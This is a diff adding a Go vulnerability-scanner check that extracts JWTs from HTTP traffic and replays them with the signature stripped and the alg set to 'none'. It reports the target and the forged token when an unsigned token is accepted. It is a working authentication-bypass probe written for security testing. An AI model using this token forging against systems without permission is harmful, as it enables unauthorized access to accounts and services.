@@ -0,0 +1,121 @@
+package main
+
+import (
+	"encoding/base64"
+	"encoding/json"
+	"fmt"
+	"net/http"
+	"os"
+	"regexp"
+	"strings"
+)
+
+var jwtRe = regexp.MustCompile(`eyJ[A-Za-z0-9_-]+\.eyJ[A-Za-z0-9_-]+\.[A-Za-z0-9_-]*`)
+
+// findJWTs returns the distinct JWTs found in r (URL, body and headers) and
+// in the response headers and body. Tokens from the request come first.
+func findJWTs(r request, headers headerArgs, resp *http.Response, body []byte) []string {
+	sources := []string{r.url, r.body}
+	sources = append(sources, headers...)
+	for _, vs := range resp.Header {
+		sources = append(sources, vs...)
+	}
+	sources = append(sources, string(body))
+
+	seen := make(map[string]bool)
+	var tokens []string
+	for _, s := range sources {
+		for _, t := range jwtRe.FindAllString(s, -1) {
+			if !seen[t] {
+				seen[t] = true
+				tokens = append(tokens, t)
+			}
+		}
+	}
+	return tokens
+}
+
+// unsignedJWT returns token without its signature and, if alg is not empty,
+// with the header's alg replaced.
+func unsignedJWT(token, alg string) (string, bool) {
+	parts := strings.Split(token, ".")
+	if len(parts) != 3 {
+		return "", false
+	}
+
+	if alg != "" {
+		raw, err := base64.RawURLEncoding.DecodeString(parts[0])
+		if err != nil {
+			return "", false
+		}
+
+		var header map[string]interface{}
+		if json.Unmarshal(raw, &header) != nil {
+			return "", false
+		}
+		header["alg"] = alg
+
+		b, err := json.Marshal(header)
+		if err != nil {
+			return "", false
+		}
+		parts[0] = base64.RawURLEncoding.EncodeToString(b)
+	}
+
+	return parts[0] + "." + parts[1] + ".", true
+}
+
+// detectJWTNoneAlg replays r with each JWT found in the request or response
+// re-signed as alg "none". Tokens already in the request are swapped in
+// place; tokens issued in the response are sent as a Bearer token. A token
+// with its signature stripped but its alg unchanged is sent first as a
+// control, and a finding is only reported if that control gets a 401 while
+// the alg:none token gets a 200.
+func detectJWTNoneAlg(client *http.Client, r request, headers headerArgs, resp *http.Response, body []byte) {
+	for _, token := range findJWTs(r, headers, resp, body) {
+		none, ok := unsignedJWT(token, "none")
+		if !ok {
+			continue
+		}
+		stripped, _ := unsignedJWT(token, "")
+
+		replay := func(t string) (int, error) {
+			u := strings.ReplaceAll(r.url, token, t)
+			b := strings.ReplaceAll(r.body, token, t)
+
+			h := make(headerArgs, len(headers))
+			inRequest := u != r.url || b != r.body
+			for i, v := range headers {
+				h[i] = strings.ReplaceAll(v, token, t)
+				inRequest = inRequest || h[i] != v
+			}
+			if !inRequest {
+				h = withHeader(h, "Authorization", "Bearer "+t)
+			}
+
+			resp, _, err := probe(client, r.method, u, b, h)
+			if err != nil {
+				return 0, err
+			}
+			return resp.StatusCode, nil
+		}
+
+		control, err := replay(stripped)
+		if err != nil {
+			fmt.Fprintf(os.Stderr, "request failed: %s\n", err)
+			continue
+		}
+		if control != http.StatusUnauthorized {
+			continue
+		}
+
+		status, err := replay(none)
+		if err != nil {
+			fmt.Fprintf(os.Stderr, "request failed: %s\n", err)
+			continue
+		}
+		if status == http.StatusOK {
+			fmt.Printf("JWT-ALG-NONE-VULN %s %s\n", r.url, none)
+		}
+	}
+}